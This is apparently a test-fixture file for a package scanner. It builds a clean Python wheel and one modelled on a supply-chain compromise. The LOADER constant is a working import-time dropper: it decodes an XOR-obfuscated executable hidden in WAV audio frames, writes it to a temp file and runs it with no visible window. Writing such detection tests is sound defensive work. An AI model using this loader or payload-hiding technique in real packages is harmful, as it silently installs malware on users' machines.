/**
 * Reports for the output-side tests: hand-built ScanReports (artifact(), report()) and real ones from wheels built
 * here (telnyxWheel(): the 2026 telnyx construction, a WAV whose frames are base64 of an XOR key and a PE header;
 * cleanWheel(): an ordinary package with a chime) scanned by scanArtifact.
 */
import { buildReport, errorReport } from '../../src/run.js';
import { defaultOptions } from '../../src/options.js';
import { scanArtifact } from '../../src/scan.js';
import type { ArtifactReport, ScanReport } from '../../src/types.js';
import { buildWheel } from './archive.js';
import { tone, wav } from './pcm.js';
import { fakePE } from './payloads.js';

export const LOADER = `import base64 as _b, subprocess as _s, tempfile as _t, wave
from importlib import resources

def _init():
    with wave.open(str(resources.files(__package__) / "data" / "ring.wav"), "rb") as w:
        raw = _b.b64decode(w.readframes(w.getnframes()))
    key, body = raw[:8], raw[8:]
    exe = bytes(b ^ key[i % 8] for i, b in enumerate(body))
    p = _t.gettempdir() + "/svc.exe"
    open(p, "wb").write(exe)
    _s.Popen([p], creationflags=0x08000000)

_init()
`;

export function telnyxWav(): Uint8Array {
  const key = Buffer.from([0x5a, 0x13, 0xc4, 0x7e, 0x91, 0x2b, 0x66, 0xd0]);
  const pe = Buffer.from(fakePE());
  const body = Buffer.alloc(pe.length);
  for (let i = 0; i < pe.length; i++) body[i] = pe[i] ^ key[i % 8];
  let text = Buffer.from(Buffer.concat([key, body]).toString('base64'), 'latin1');
  if (text.length % 2) text = Buffer.concat([text, Buffer.from('=')]);
  return wav(new Uint8Array(text), 8000);
}

/** A wheel built like the telnyx compromise: flagged by the scanner. */
export function telnyxWheel(name = 'tonekit', version = '1.2.1'): Uint8Array {
  const pkg = name.replace(/-/g, '_');
  return buildWheel(name, version, { [`${pkg}/__init__.py`]: LOADER, [`${pkg}/data/chime.wav`]: wav(tone(0.5)), [`${pkg}/data/ring.wav`]: telnyxWav() });
}

/** An ordinary wheel: scans clean. */
export function cleanWheel(name = 'tonekit', version = '1.2.0'): Uint8Array {
  const pkg = name.replace(/-/g, '_');
  return buildWheel(name, version, { [`${pkg}/__init__.py`]: 'def chime():\n    return "chime.wav"\n', [`${pkg}/data/chime.wav`]: wav(tone(0.5)) });
}

/** Scan wheel bytes as `file`, with the default options (threshold 7). */
export async function scanWheel(file: string, data: Uint8Array, extra: Partial<ArtifactReport> = {}): Promise<ArtifactReport> {
  const r = await scanArtifact({ file, path: `dl/${file}`, data }, defaultOptions());
  return Object.assign(r, extra);
}

/** A hand-built artifact report (scanned, clean) with overrides. */
export function artifact(overrides: Partial<ArtifactReport> = {}): ArtifactReport {
  const file = overrides.file ?? 'pkg-1.0-py3-none-any.whl';
  return {
    ...errorReport(`dl/${file}`, file, 'ab'.repeat(32), 1000, 'x'),
    status: 'scanned',
    reasons: [],
    package: 'pkg',
    version: '1.0',
    kind: 'wheel',
    stats: { files: 3, bytes: 1000, seconds: 0.01 },
    ...overrides,
  };
}

export function report(artifacts: ArtifactReport[], opts: { threshold?: number; failOnIncomplete?: boolean; errors?: ScanReport['errors']; seconds?: number } = {}): ScanReport {
  return buildReport(artifacts, opts.errors ?? [], defaultOptions({ threshold: opts.threshold, failOnIncomplete: opts.failOnIncomplete }), opts.seconds ?? 0.5);
}
